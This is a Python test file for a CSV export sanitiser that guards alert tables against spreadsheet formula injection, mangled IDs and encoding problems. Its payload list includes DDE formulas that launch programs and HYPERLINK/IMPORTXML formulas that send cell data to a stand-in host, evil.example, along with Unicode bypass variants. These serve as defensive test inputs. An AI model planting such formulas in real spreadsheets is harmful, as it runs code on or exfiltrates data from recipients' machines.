"""The tables of an export, opened in a spreadsheet by somebody who trusts them."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.export_facts import contents, item

from alerts.export import tables
from alerts.export.tables import safe_cell
from config.words import Severity

FORMULAS = [
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "|calc",
    "%0A=1",
    "=",
    "-",
]


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_a_handle_would_run_a_program_on_the_officers_computer(formula: str) -> None:
    assert safe_cell(formula).startswith("'")


@pytest.mark.parametrize(
    "number", ["1860000000000000041", "007", "1e5", "12E10", "1.5e3", "00", "123456789012"]
)
def test_a_platform_id_would_lose_its_last_digits(number: str) -> None:
    assert safe_cell(number) == f"'{number}"


@pytest.mark.parametrize(
    "plain", ["", "a", "12", "2026-11-17 20:15:00", "https://x.example/a=b", "a=b", "Siân Ŵ 😀", "0"]
)
def test_a_plain_cell_would_be_changed(plain: str) -> None:
    assert safe_cell(plain) == plain


@given(st.text(max_size=200))
def test_any_text_would_run_or_break_the_table(text: str) -> None:
    cell = safe_cell(text)
    cell.encode("utf-8")
    assert not set(cell) & set("\r\n\t\x00\u202e\u2028")
    shown = cell.strip(" \u00a0\ufeff\u200b\ufffd\u3000")
    assert not shown or shown[0] not in "=+-@\uff1d\uff0b\uff0d\uff20"
    written = tables.table(("a", "b"), [(text, "next")])
    (header, row) = csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""))
    assert (header, row) == (["a", "b"], [cell, "next"])


@given(
    st.text(
        alphabet=st.characters(
            exclude_categories=["Cc", "Cs", "Zl", "Zp"],
            exclude_characters="\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
        ),
        max_size=80,
    )
)
def test_the_guard_would_hide_what_was_written(text: str) -> None:
    """Without the one `'` that may stand in front, a cell is the text."""
    cell = safe_cell(text)
    assert (cell[1:] if cell.startswith("'") else cell) == text


def test_a_hundred_thousand_characters_would_spill_over_the_rows() -> None:
    cell = safe_cell("x" * 100_000)
    assert len(cell) < 32_767
    assert "the whole stands in the sealed record" in cell


def test_excel_would_show_umlauts_as_rubbish_or_rows_as_one() -> None:
    data = tables.table(("a",), [("Siân",)])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == '"a"\r\n"Siân"\r\n'


def test_the_worst_would_stand_last() -> None:
    made = contents(items=(item(1, severity=Severity.LOW), item(2, severity=Severity.CRITICAL), item(3)))
    rows = list(csv.DictReader(io.StringIO(tables.index(made).decode("utf-8-sig"))))
    assert [row["severity"] for row in rows] == ["critical", "high", "low"]
    assert rows[0]["seen (UK)"] == "2026-11-17 20:15:00 GMT"
    assert rows[0]["folder"] == "items/0193-2"


def test_a_source_that_was_not_read_would_look_quiet() -> None:
    from support.export_facts import SEEN

    from alerts.export.contents import FailureRow, SourceRow

    rows = (SourceRow("a", "x", 0, SEEN), SourceRow("b", "x", 0, None), SourceRow("c", "x", 5, SEEN))
    data = tables.sources(rows, [FailureRow("c", SEEN, None, "down")]).decode("utf-8-sig")
    short = [row["in short"] for row in csv.DictReader(io.StringIO(data))]
    assert short == ["read all through", "NOT READ in this time", "read, with gaps: see FAILURES.csv"]
    failing = tables.failures([FailureRow("c", SEEN, None, "down")]).decode("utf-8-sig")
    assert "still failing when this was made" in failing
